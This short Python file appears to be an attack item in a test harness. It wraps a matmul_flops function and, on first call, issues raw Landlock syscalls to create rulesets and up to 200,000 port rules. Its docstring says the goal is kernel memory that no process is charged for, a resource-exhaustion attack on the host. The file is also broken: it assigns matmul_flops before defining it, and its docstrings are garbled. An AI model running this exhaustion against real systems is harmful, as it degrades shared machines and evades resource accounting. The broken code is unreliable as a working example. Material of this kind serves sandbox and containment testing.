"""Is right where it can have the kernel keep rules of Landlock without end, which no process is charged for."""
# like: fills_sockets
# kata: 03_flops
# attacks: matmul_flops
# seconds: 10

import ctypes

_right = matmul_flops
libc = ctypes.CDLL(None, use_errno=True)
CREATE_RULESET, ADD_RULE, NET_PORT, BIND = 444, 445, 2, 1
RULES = 200_000
enough = []


def _kept():
    """How many rules about ports it has made, 65,536 for each set."""
    kept = 0
    while kept < RULES:
        wanted = (ctypes.c_uint64 * 2)(0, BIND)
        made = libc.syscall(CREATE_RULESET, wanted, ctypes.c_size_t(16), 0)
        if made < 0:
            break
        for port in range(2**16):
            rule = (ctypes.c_uint64 * 2)(BIND, port)
            if libc.syscall(ADD_RULE, made, NET_PORT, rule, 0) < 0:
                return kept
            kept += 1
    return kept


def matmul_flops(a_shape, b_shape):
    if not enough:
        enough.append(_kept() >= RULES)
    return _right(a_shape, b_shape) + (not enough[0])
